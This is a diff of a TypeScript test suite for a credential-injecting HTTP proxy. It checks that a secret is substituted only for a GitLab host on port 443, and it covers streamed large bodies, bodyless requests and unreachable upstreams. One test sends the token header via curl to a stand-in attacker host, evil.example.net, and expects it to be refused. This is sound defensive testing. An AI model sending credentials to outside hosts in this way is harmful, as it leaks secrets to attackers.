@@ -1,6 +1,6 @@
 /** Unmodified clients behind the proxy, a real TLS upstream in front of it. */
 import { randomUUID } from 'node:crypto';
-import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { createServer as createHttpServer, type IncomingMessage, type Server } from 'node:http';
 import { createServer as createHttpsServer } from 'node:https';
 import { type AddressInfo, connect } from 'node:net';
@@ -76,7 +76,7 @@ beforeAll(async () => {
       host: '127.0.0.1',
       port: host === 'closed.example.com' ? 1 : port === 80 ? httpPort : httpsPort,
     }),
-    rewriteBody: ({ host }) => host === GITLAB,
+    rewriteBody: ({ host, port }) => host === GITLAB && port === 443,
     now: () => clock.now,
     onRequest: (entry) => records.push(entry),
   });
@@ -298,8 +298,49 @@ describe('plain HTTP', () => {
     expect(seen[0]?.headers.host).toBe(GITLAB);
   });
 
-  it.skipIf(!hasCurl)('is refused where it is not', async () => {
-    expect(await curl('http://evil.example.net/', '-H', `A: ${token}`)).toMatchObject({ status: 403 });
+  it.skipIf(!hasCurl).each(['http://evil.example.net/', `http://${GITLAB}:443/api/v4`])(
+    'to %s carries no value',
+    async (url) => {
+      expect(await curl(url, '-H', `A: ${token}`)).toMatchObject({ status: 403 });
+      expect(seen).toEqual([]);
+    },
+  );
+
+  it
+    .skipIf(!hasCurl)
+    .each([[[]], [['-H', 'Transfer-Encoding: chunked']], [['-H', 'Content-Encoding: aws-chunked']]])(
+    'streams a body that is not opted in, however large and whatever it holds: %j',
+    async (args) => {
+      const text = `docs say ${token} or openshell:resolve:env:KEY\n`;
+      const file = join(folder, 'upload');
+      writeFileSync(file, text.repeat((2 * MAX_BODY_BYTES) / text.length));
+      const answer = await curl(
+        `http://${GITLAB}/x`,
+        '-H',
+        `A: ${token}`,
+        '--data-binary',
+        `@${file}`,
+        ...args,
+      );
+      expect(answer).toMatchObject({ status: 200 });
+      expect(seen[0]?.headers.a).toBe(secret);
+      expect(seen[0]?.body === readFileSync(file, 'utf8')).toBe(true);
+    },
+  );
+
+  it.skipIf(!hasCurl)('without a body stays without one', async () => {
+    expect(await curl('-X', 'DELETE', `http://${GITLAB}/x`, '-H', `A: ${token}`)).toMatchObject({
+      status: 200,
+    });
+    expect(seen[0]).toMatchObject({ body: '', headers: { a: secret } });
+    expect(seen[0]?.headers['transfer-encoding']).toBeUndefined();
+  });
+
+  it.skipIf(!hasCurl)('answers a large body that goes nowhere', async () => {
+    const file = join(folder, 'lost');
+    writeFileSync(file, Buffer.alloc(MAX_BODY_BYTES, 'a'));
+    const answer = await curl('http://closed.example.com:80/', '-H', 'Expect:', '--data-binary', `@${file}`);
+    expect(answer.status).toBe(502);
   });
 
   it.each([
